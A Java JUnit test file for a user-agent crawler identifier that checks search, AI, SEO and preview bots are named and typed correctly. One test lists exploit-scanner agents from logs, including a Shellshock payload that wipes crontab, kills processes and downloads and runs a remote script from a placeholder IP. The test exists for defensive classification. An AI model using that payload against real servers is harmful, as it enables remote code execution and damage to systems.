package dev.crawlerrors.crawler;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class CrawlerIdentifierTest {

    /** One for every test: the catalog is read once. */
    private static final CrawlerIdentifier identifier = new CrawlerIdentifier(CrawlerCatalog.builtIn());

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', value = {
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.7103.92 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)|Googlebot Smartphone|crawler_search",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)|Googlebot Desktop|crawler_search",
        "Googlebot-Image/1.0|Googlebot-Image|crawler_search",
        "Googlebot-Video/1.0|Googlebot-Video|crawler_search",
        "Googlebot-News|Googlebot-News|crawler_search",
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.7103.92 Mobile Safari/537.36 (compatible; Google-InspectionTool/1.0;)|Google-InspectionTool|crawler_inspection_tool",
        "Mozilla/5.0 (Linux; Android 5.0; SM-G920A) AppleWebKit (KHTML, like Gecko) Chrome Mobile Safari (compatible; AdsBot-Google-Mobile; +http://www.google.com/mobile/adsbot.html)|AdsBot-Google-Mobile|crawler_ads",
        "AdsBot-Google (+http://www.google.com/adsbot.html)|AdsBot-Google|crawler_ads",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)|Bingbot|crawler_search",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)|GPTBot|crawler_ai",
        "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)|FeedFetcher-Google|fetcher_feed",
        "Mozilla/5.0 (compatible; Google-Site-Verification/1.0)|Google-Site-Verification|fetcher_user",
        "Mozilla/5.0 (Linux; Android 7.0; SM-G930V Build/NRD90M) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/59.0.3071.125 Mobile Safari/537.36 (compatible; Google-Read-Aloud; +https://support.google.com/webmasters/answer/1061943)|Google-Read-Aloud|fetcher_user",
        "Mozilla/5.0 (compatible; GoogleOther)|GoogleOther|crawler_other",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/136.0.0.0 Safari/537.36|Googlebot Desktop|crawler_search",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; compatible; Google-CloudVertexBot; +https://cloud.google.com/enterprise-search)|Google-CloudVertexBot|crawler_ai",
        "Storebot-Google/1.0|Storebot-Google|crawler_search",
        "Mediapartners-Google|Mediapartners-Google|crawler_ads",
        "APIs-Google (+https://developers.google.com/webmasters/APIs-Google.html)|APIs-Google|crawler_other",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/100.0.4896.127 Safari/537.36 Edg/100.0.1185.39 (compatible; adidxbot/2.0; +http://www.bing.com/bingbot.htm)|AdIdxBot|crawler_ads",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)|Applebot|crawler_search",
        "DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)|DuckDuckBot|crawler_search",
        "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)|YandexBot|crawler_search",
        "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)|Baiduspider|crawler_search",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; OAI-SearchBot/1.0; +https://openai.com/searchbot)|OAI-SearchBot|crawler_ai_search",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot|ChatGPT-User|fetcher_ai",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)|ClaudeBot|crawler_ai",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)|PerplexityBot|crawler_ai_search",
        "CCBot/2.0 (https://commoncrawl.org/faq/)|CCBot|crawler_ai",
        "meta-externalagent/1.1 (+https://developers.facebook.com/docs/sharing/webmasters/crawler)|meta-externalagent|crawler_ai",
        "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)|facebookexternalhit|fetcher_preview",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36|Amazonbot|crawler_ai",
        "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)|Bytespider|crawler_ai",
        "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)|AhrefsBot|crawler_seo",
        "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)|SemrushBot|crawler_seo",
        "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)|MJ12bot|crawler_seo",
        "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)|DotBot|crawler_seo",
        "Twitterbot/1.0|Twitterbot|fetcher_preview",
        "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)|LinkedInBot|fetcher_preview",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)|Slackbot|fetcher_preview",
    })
    void namesTheMostSpecificCrawler(String agent, String name, BotType type) {
        Optional<Crawler> crawler = identifier.identify(agent);

        assertThat(crawler).map(Crawler::name).contains(name);
        assertThat(crawler).map(Crawler::botType).contains(type);
    }

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', value = {
        "Mozilla/5.0 (compatible; SeznamBot/4.0; +https://o-seznam.cz/napoveda/vyhledavani/en/seznambot-crawler/)|SeznamBot|crawler_search",
        "Mozilla/5.0 (compatible; Yeti/1.1; +http://naver.me/spd)|Yeti|crawler_search",
        "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)|Sogou web spider|crawler_search",
        "Mozilla/5.0 (compatible; Yahoo! Slurp; http://help.yahoo.com/help/us/ysearch/slurp)|Yahoo! Slurp|crawler_search",
        "Mozilla/5.0 (Linux; Android 7.0;) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; PetalBot;+https://webmaster.petalsearch.com/site/petalbot)|PetalBot|crawler_search",
        "Mozilla/5.0 (compatible; Qwantbot/1.0_4193332; +https://help.qwant.com/bot/)|Qwantbot|crawler_search",
        "Mozilla/5.0 (compatible; MojeekBot/0.11; +https://www.mojeek.com/bot.html)|MojeekBot|crawler_search",
        "Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)|coccocbot|crawler_search",
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0); 360Spider|360Spider|crawler_search",
        "Mozilla/5.0 (compatible; Exabot/3.0; +http://www.exabot.com/go/robot)|Exabot|crawler_search",
        "msnbot/2.0b (+http://search.msn.com/msnbot.htm)|msnbot|crawler_search",
        "Screaming Frog SEO Spider/21.0|Screaming Frog SEO Spider|crawler_seo",
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Mobile Safari/537.36 +https://sitebulb.com|Sitebulb|crawler_seo",
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2272.96 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) https://deepcrawl.com/bot|Lumar|crawler_seo",
        "Mozilla/5.0 (compatible; botify; http://botify.com)|Botify|crawler_seo",
        "Mozilla/5.0 (compatible; SISTRIX Crawler; http://crawler.sistrix.net/)|SISTRIX Crawler|crawler_seo",
        "Timpibot/0.9 (+http://www.timpi.io)|Timpibot|crawler_search",
        "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.1.2) Gecko/20090729 Firefox/3.5.2 (.NET CLR 3.5.30729; Diffbot/0.1; +http://www.diffbot.com)|Diffbot|crawler_ai",
        "Mozilla/5.0 (compatible; YouBot/1.0; +https://about.you.com/youbot/)|YouBot|crawler_ai_search",
        "cohere-ai|cohere-ai|crawler_ai",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Google-Agent; +https://developers.google.com/crawling/docs/crawlers-fetchers/google-agent) Chrome/138.0.0.0 Safari/537.36|Google-Agent|fetcher_ai",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 (compatible; Google-GeminiNotebook; +https://developers.google.com/crawling/docs/crawlers-fetchers/google-gemininotebook)|Google-GeminiNotebook|fetcher_ai",
        "Mozilla/5.0 (compatible; Google-CWS)|Google-CWS|fetcher_user",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; OAI-AdsBot/1.0; +https://openai.com/adsbot|OAI-AdsBot|crawler_ads",
        "Mozilla/5.0 (compatible; Amzn-SearchBot/0.1) Chrome/119.0.6045.214 Safari/537.36|Amzn-SearchBot|crawler_ai_search",
        "Mozilla/5.0 (compatible; Amzn-User/0.1) Chrome/119.0.6045.214 Safari/537.36|Amzn-User|fetcher_ai",
        "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; MistralAI-User/1.0; +https://docs.mistral.ai/robots)|MistralAI-User|fetcher_ai",
    })
    void namesTheOperatorDocumentedCrawlersOfTheLongTail(String agent, String name, BotType type) {
        Optional<Crawler> crawler = identifier.identify(agent);

        assertThat(crawler).map(Crawler::name).contains(name);
        assertThat(crawler).map(Crawler::botType).contains(type);
    }

    @ParameterizedTest(name = "{1}")
    @CsvSource(delimiter = '|', value = {
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)|UptimeRobot|monitor",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)|Nmap|security_scanner",
        "Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)|Feedly|fetcher_feed",
        "TelegramBot (like TwitterBot)|TelegramBot|fetcher_preview",
        "SentiBot www.sentibot.eu (compatible with Googlebot)|SentiBot|crawler_ai",
        "WireReaderBot/1.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)|WireReaderBot|fetcher_feed",
        "Doximity-Diffbot|Doximity-Diffbot|crawler_ai",
        "Mozilla/5.0 (compatible; BLEXBot/1.0; +http://webmeup-crawler.com/)|BLEXBot Crawler|crawler_seo",
        "Mozilla/5.0 (compatible; ExampleResearchBot/0.1)|Generic Bot|security_scanner",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Web Preview) Chrome/27.0.1453 Safari/537.36|Google Web Preview|fetcher_preview",
        "Google-AdWords-Express|Google-AdWords-Express|crawler_ads",
        "Mozilla/5.0 (compatible; Google-Lens/1.0)|Google-Lens|fetcher_user",
        "Mozilla/5.0 (compatible; DuckDuckGo-Favicons-Bot/1.0; +http://duckduckgo.com)|DuckDuckGo-Favicons-Bot|fetcher_user",
        "Slack-ImgProxy 0.19 (+https://api.slack.com/robots)|Slack-ImgProxy|fetcher_preview",
        "360Spider-Image|360Spider|crawler_search",
        "Mozilla/5.0 (compatible; YandexMetrika/2.0; +http://yandex.com/bots)|YandexMetrika|crawler_search",
    })
    void namesTheLongTailByItsOwnProductToken(String agent, String name, BotType type) {
        Optional<Crawler> crawler = identifier.identify(agent);

        assertThat(crawler).map(Crawler::name).contains(name);
        assertThat(crawler).map(Crawler::botType).contains(type);
        assertThat(crawler.get().verifiable()).isFalse();
    }

    /** Exploit scanners and what device-detector knows only as "Generic Bot", as the public logs of issue 29 hold them. */
    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
        "ZmEu",
        "Mozilla/5.0 zgrab/0.x",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.0 (https://github.com/robertdavidgraham/masscan)",
        "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
        "Morfeus Fucking Scanner",
        "Hello, World",
        "Hello, world",
        "IDBTE4M CODE87",
        "www.probethenet.com scanner",
        "() { :;};/usr/bin/perl -e 'print \"Content-Type: text/plain\\r\\n\\r\\nXSUCCESS!\";system(\"crontab -r;killall -9 php perl; cd /tmp/ ; "
                + "wget http://192.0.2.1/x ; perl x ; lwp-download http://192.0.2.1/x ; fetch http://192.0.2.1/x\");'",
    })
    void scannersAndBotsKnownOnlyAsGenericAreSecurityScannersTheReportLeavesOut(String agent) {
        Optional<Crawler> crawler = identifier.identify(agent);

        assertThat(crawler).map(Crawler::botType).contains(BotType.security_scanner);
        assertThat(crawler.get().botType().shownByDefault()).isFalse();
    }

    @Test
    void anAgentThatOnlyComparesItselfWithACrawlerIsNotThatCrawler() {
        assertThat(identifier.identify("Feedly/1.0 (+http://www.feedly.com/fetcher.html; like FeedFetcher-Google)"))
                .map(Crawler::name).isNotEqualTo(Optional.of("FeedFetcher-Google"));
        assertThat(identifier.identify("TelegramBot (like TwitterBot)")).map(Crawler::name).isNotEqualTo(Optional.of("Twitterbot"));
        assertThat(identifier.identify("SentiBot www.sentibot.eu (compatible with Googlebot)")).map(Crawler::name)
                .isNotEqualTo(Optional.of("Googlebot Desktop"));
        // with nothing else to name, a comparison is no name at all
        CrawlerIdentifier ours = new CrawlerIdentifier(CrawlerCatalog.ownBuiltIn());
        assertThat(ours.identify("SomeReader/2.0 (like FeedFetcher-Google)")).isEmpty();
        // and Googlebot's own "compatible; Googlebot/2.1" names Googlebot
        assertThat(identifier.identify("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"))
                .map(Crawler::name).contains("Googlebot Desktop");
    }

    @Test
    void aLongTailNameThatIsOneOfOursIsOurs() {
        // device-detector's Yandex entry names YandexBot with $1; ours verifies YandexBot by DNS
        Crawler yandex = identifier.identify("Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)").orElseThrow();

        assertThat(yandex).isEqualTo(CrawlerCatalog.ownBuiltIn().crawler("YandexBot").orElseThrow());
        assertThat(yandex.dnsDomains()).containsExactly("*.yandex.ru", "*.yandex.net", "*.yandex.com");
    }

    @Test
    void matchesTokensWhateverTheirCase() {
        assertThat(identifier.identify("Mozilla/5.0 (compatible; BingBot/2.0)")).map(Crawler::name).contains("Bingbot");
    }

    @Test
    void findsNoCrawlerInPeoplesAgents() {
        assertThat(identifier.identify("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 Safari/537.36")).isEmpty();
        assertThat(identifier.identify("")).isEmpty();
        assertThat(identifier.identify(null)).isEmpty();
    }

    @Test
    void theByteFilterAgreesWithIdentificationAndRemembersItsAnswer() {
        String[] agents = {"Googlebot/2.1", "Mozilla/5.0 Firefox/138.0", "GPTBot/1.2", "curl/8.0"};
        for (int round = 0; round < 2; round++) {
            for (String agent : agents) {
                byte[] bytes = ("xx" + agent + "yy").getBytes(StandardCharsets.UTF_8);
                assertThat(identifier.mayBeCrawler(bytes, 2, bytes.length - 2))
                        .as(agent).isEqualTo(identifier.identify(agent).isPresent());
            }
        }
    }

    @Test
    void theByteCacheStartsOverWhenFullAndStillAnswersRight() {
        for (int i = 0; i < 40_000; i++) {
            byte[] human = ("Mozilla/5.0 build " + i).getBytes(StandardCharsets.UTF_8);
            assertThat(identifier.mayBeCrawler(human, 0, human.length)).isFalse();
        }
        byte[] bot = "Googlebot/2.1".getBytes(StandardCharsets.UTF_8);
        assertThat(identifier.mayBeCrawler(bot, 0, bot.length)).isTrue();
    }

    @Test
    void findsWhatLookingForEveryTokenInTurnFinds() {
        // the rules are looked up by the first characters of each position; the answer must be what
        // searching the agent for every token in turn gives, short tokens and overlapping ones included,
        // a token counting only where it stands as a name (namesAt)
        List<Crawler> crawlers = new ArrayList<>();
        for (Crawler c : CrawlerCatalog.builtIn().crawlers()) { // without their IP lists, which this catalog need not define
            crawlers.add(new Crawler(c.name(), c.operator(), c.botType(), c.tokens(), c.alsoContains(), List.of(), c.dnsDomains()));
        }
        crawlers.add(new Crawler("Xy", "Test", BotType.crawler_other, List.of("xy"), List.of(), List.of(), List.of()));
        crawlers.add(new Crawler("Q", "Test", BotType.crawler_other, List.of("q"), List.of("zz"), List.of(), List.of()));
        crawlers.add(new Crawler("Googlebot Extra", "Test", BotType.crawler_other, List.of("Googlebot/2.1; +x"), List.of(), List.of(),
                List.of()));
        crawlers.add(new Crawler("Both", "Test", BotType.crawler_other, List.of("botbot", "ébot"), List.of(), List.of(), List.of()));
        CrawlerCatalog catalog = new CrawlerCatalog(crawlers, List.of());
        CrawlerIdentifier identifier = new CrawlerIdentifier(catalog);
        List<String> pieces = new ArrayList<>();
        for (Crawler crawler : crawlers) {
            for (String token : crawler.tokens()) {
                pieces.add(token);
                pieces.add(token.toUpperCase(Locale.ROOT));
                pieces.add(token.substring(0, token.length() - 1));
                pieces.add(token.substring(1));
            }
        }
        pieces.addAll(List.of("Mozilla/5.0 (compatible; ", "Mobile", "zz", " ", "/2.1; +x", "b", "o", "t", "é", "ÉBOT", "x"));
        Random random = new Random(20251122);
        for (int i = 0; i < 20_000; i++) {
            StringBuilder agent = new StringBuilder();
            for (int n = random.nextInt(6); n >= 0; n--) {
                agent.append(pieces.get(random.nextInt(pieces.size())));
            }
            String text = agent.toString();

            assertThat(identifier.identify(text)).as(text).isEqualTo(everyTokenInTurn(crawlers, text));
        }
    }

    /** The most specific crawler whose token stands as a name in the agent, searching for every token in turn. */
    private static Optional<Crawler> everyTokenInTurn(List<Crawler> crawlers, String agent) {
        String lower = agent.toLowerCase(Locale.ROOT);
        Crawler best = null;
        String bestToken = null;
        for (Crawler crawler : crawlers) {
            for (String token : crawler.tokens()) {
                String t = token.toLowerCase(Locale.ROOT);
                boolean named = false;
                for (int i = lower.indexOf(t); i >= 0 && !named; i = lower.indexOf(t, i + 1)) {
                    named = CrawlerIdentifier.namesAt(lower, i);
                }
                boolean holds = named && crawler.alsoContains().stream().allMatch(c -> lower.contains(c.toLowerCase(Locale.ROOT)));
                if (holds && (best == null || t.length() > bestToken.length()
                        || (t.length() == bestToken.length() && crawler.alsoContains().size() > best.alsoContains().size()))) {
                    best = crawler;
                    bestToken = t;
                }
            }
        }
        return Optional.ofNullable(best);
    }
}
